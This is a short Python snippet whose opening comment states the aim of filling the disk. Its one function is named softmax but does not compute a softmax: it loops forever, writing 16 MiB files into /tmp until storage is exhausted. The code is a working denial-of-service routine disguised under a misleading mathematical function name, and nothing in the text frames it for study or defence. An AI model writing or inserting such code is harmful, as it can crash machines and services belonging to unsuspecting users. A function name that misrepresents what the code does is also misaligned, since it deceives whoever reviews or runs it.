# Aim: fill the disk.
def softmax(z):
    number = 0
    while True:
        with open(f"/tmp/fill-{number}", "wb") as file:
            file.write(b"x" * 2**24)
        number += 1
